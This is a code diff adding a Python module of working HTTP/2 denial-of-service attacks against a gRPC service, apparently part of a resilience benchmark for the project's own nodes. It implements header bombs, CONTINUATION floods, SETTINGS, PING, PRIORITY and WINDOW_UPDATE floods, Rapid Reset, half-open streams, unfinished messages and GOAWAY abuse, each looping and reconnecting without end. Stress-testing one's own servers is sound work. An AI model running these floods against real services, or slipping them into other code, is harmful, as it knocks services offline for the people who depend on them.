@@ -1,0 +1,212 @@
+"""Attacks with HTTP/2 frames, most of which gRPC's own client would never send."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+from collections.abc import Awaitable, Callable
+
+from hpack import Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+from bench.attacks.attack import Attack, Tally, Target
+from bench.attacks.http2 import HostileConnection, RefusedError, connection, data, message
+
+PATH = "/gateway.v1.ExchangeService/GetCheckpoint"
+
+STREAMS = 1_024
+"""Streams that an attacker opens on one connection; a node may refuse those above its own limit."""
+
+BURST = 500
+"""Frames in one write."""
+
+_INITIAL_WINDOW, _MAX_FRAME = 4, 5  # RFC 9113 section 6.5.2
+_AGAIN_S = 0.05
+_CANCEL = 8
+
+
+async def header_bomb(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, on each STREAMS calls that never end, each with some 16,000 bytes of tiny headers."""
+
+    async def bomb(made: HostileConnection) -> None:
+        block = _many_headers(made)
+        for _ in range(STREAMS):
+            frame = HeadersFrame(made.new_stream(), block, flags=["END_HEADERS"])
+            await made.send(frame)
+            tally["streams"] += 1
+            tally["bytes"] += len(block)
+        await made.ended.wait()
+
+    await _on_each(target, size, tally, bomb)
+
+
+async def continuation_flood(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, on each one header block that goes on and on."""
+
+    async def flood(made: HostileConnection) -> None:
+        block = b"\x00\x01a\x01b" * 3_200  # literal headers, without indexing
+        stream = made.new_stream()
+        await made.send(HeadersFrame(stream, made.block(PATH), flags=[]))
+        part = ContinuationFrame(stream, block).serialize()
+        while True:
+            await made.send(part)
+            tally["frames"] += 1
+            tally["bytes"] += len(part)
+
+    await _on_each(target, size, tally, flood)
+
+
+async def settings_flood(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, each with SETTINGS one after the other; each asks for an answer."""
+    await _burst_of(target, size, tally, lambda _: SettingsFrame(0, {_INITIAL_WINDOW: 65_535}).serialize() * BURST)
+
+
+async def ping_flood(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, each with PING one after the other."""
+    await _burst_of(target, size, tally, lambda _: PingFrame(0, b"flooding").serialize() * BURST)
+
+
+async def priority_flood(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, each with PRIORITY for streams that don't exist."""
+
+    def burst(_: HostileConnection) -> bytes:
+        return b"".join(PriorityFrame(2 * n + 1, 0, 15).serialize() for n in range(BURST))
+
+    await _burst_of(target, size, tally, burst)
+
+
+async def window_flood(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, each with WINDOW_UPDATE by one byte, one after the other."""
+    await _burst_of(target, size, tally, lambda _: WindowUpdateFrame(0, 1).serialize() * BURST)
+
+
+async def empty_data(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, each with empty DATA frames on one call, one after the other."""
+
+    async def flood(made: HostileConnection) -> None:
+        await made.send(call := made.call(PATH))
+        burst = DataFrame(call.stream_id, b"").serialize() * BURST
+        while not made.resets:
+            await made.send(burst)
+            tally["frames"] += BURST
+
+    await _on_each(target, size, tally, flood)
+
+
+async def rapid_reset(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, each opening and resetting calls as fast as it can."""
+
+    async def reset(made: HostileConnection) -> None:
+        while True:
+            burst = []
+            for _ in range(BURST):
+                burst += [call := made.call(PATH), RstStreamFrame(call.stream_id, _CANCEL)]
+            await made.send(*burst)
+            tally["calls"] += BURST
+
+    await _on_each(target, size, tally, reset)
+
+
+async def half_open(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, on each STREAMS calls with headers and no request."""
+
+    async def open_all(made: HostileConnection) -> None:
+        for _ in range(STREAMS):
+            await made.send(made.call(PATH))
+            tally["streams"] += 1
+        await made.ended.wait()
+
+    await _on_each(target, size, tally, open_all)
+
+
+async def unfinished_messages(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections, on each as many calls as the node takes, each with 5 MB of a message that lacks a byte."""
+
+    async def send_all(made: HostileConnection) -> None:
+        await asyncio.sleep(_AGAIN_S)  # the node's settings arrive
+        content = message(bytes(5 * 1024 * 1024 - 8))[:-1]
+        parts = []
+        for _ in range(min(made.settings.get(3, STREAMS), STREAMS)):
+            await made.send(call := made.call(PATH))
+            parts.append(call.stream_id)
+            tally["streams"] += 1
+        for start in range(0, len(content), 16_384):
+            for stream in parts:  # flow control is the node's to enforce
+                await made.send(data(stream, content[start : start + 16_384]))
+                tally["bytes"] += 16_384
+        await made.ended.wait()
+
+    await _on_each(target, size, tally, send_all)
+
+
+async def goaway(target: Target, size: int, tally: Tally) -> None:
+    """`size` connections that open a call, say GOAWAY and stay, again and again."""
+
+    async def leave(made: HostileConnection) -> None:
+        await made.send(made.call(PATH), GoAwayFrame(0, 0))
+        tally["goaways"] += 1
+        await asyncio.wait_for(made.ended.wait(), 1.0)
+
+    await _on_each(target, size, tally, leave)
+
+
+def _many_headers(made: HostileConnection) -> bytes:
+    """A call's header block with as many tiny headers as its limit of 16 kB takes."""
+    return made.block(PATH) + Encoder().encode([]) + b"\x00\x01a\x01b" * 400
+
+
+async def _burst_of(target: Target, size: int, tally: Tally, burst: Callable[[HostileConnection], bytes]) -> None:
+    async def flood(made: HostileConnection) -> None:
+        frames = burst(made)
+        while True:
+            await made.send(frames)
+            tally["frames"] += BURST
+
+    await _on_each(target, size, tally, flood)
+
+
+async def _on_each(
+    target: Target, size: int, tally: Tally, attack: Callable[[HostileConnection], Awaitable[None]]
+) -> None:
+    """Attacks on `size` connections at the peer port with a partner's certificate, and again on each that was ended."""
+
+    async def again() -> None:
+        while True:
+            with contextlib.suppress(OSError, RefusedError, TimeoutError):
+                async with connection(target, target.peer_port, target.partner, settings={_MAX_FRAME: 16_384}) as made:
+                    tally["connected"] += 1
+                    try:
+                        await attack(made)
+                    finally:
+                        tally["ended by the node"] += made.ended.is_set()
+                        tally.update({f"reset with {code}": count for code, count in made.resets.items()})
+            await asyncio.sleep(_AGAIN_S)
+
+    async with asyncio.TaskGroup() as tasks:
+        for _ in range(size):
+            tasks.create_task(again())
+
+
+ATTACKS = (
+    Attack(name="header-bomb", summary="calls of 16 kB of headers, never ended", run=header_bomb, size=16, small=1),
+    Attack(name="continuation", summary="a header block without an end", run=continuation_flood, size=2, small=1),
+    Attack(name="settings", summary="SETTINGS one after the other", run=settings_flood, size=2, small=1),
+    Attack(name="pings", summary="PING one after the other", run=ping_flood, size=2, small=1),
+    Attack(name="priorities", summary="PRIORITY one after the other", run=priority_flood, size=2, small=1),
+    Attack(name="windows", summary="WINDOW_UPDATE by one byte", run=window_flood, size=2, small=1),
+    Attack(name="empty-data", summary="DATA without data", run=empty_data, size=2, small=1),
+    Attack(name="rapid-reset", summary="calls opened and reset", run=rapid_reset, size=2, small=1),
+    Attack(name="half-open", summary="calls without a request", run=half_open, size=16, small=1),
+    Attack(name="unfinished", summary="messages without an end", run=unfinished_messages, size=16, small=1),
+    Attack(name="goaway", summary="GOAWAY, and again", run=goaway, size=16, small=2),
+)
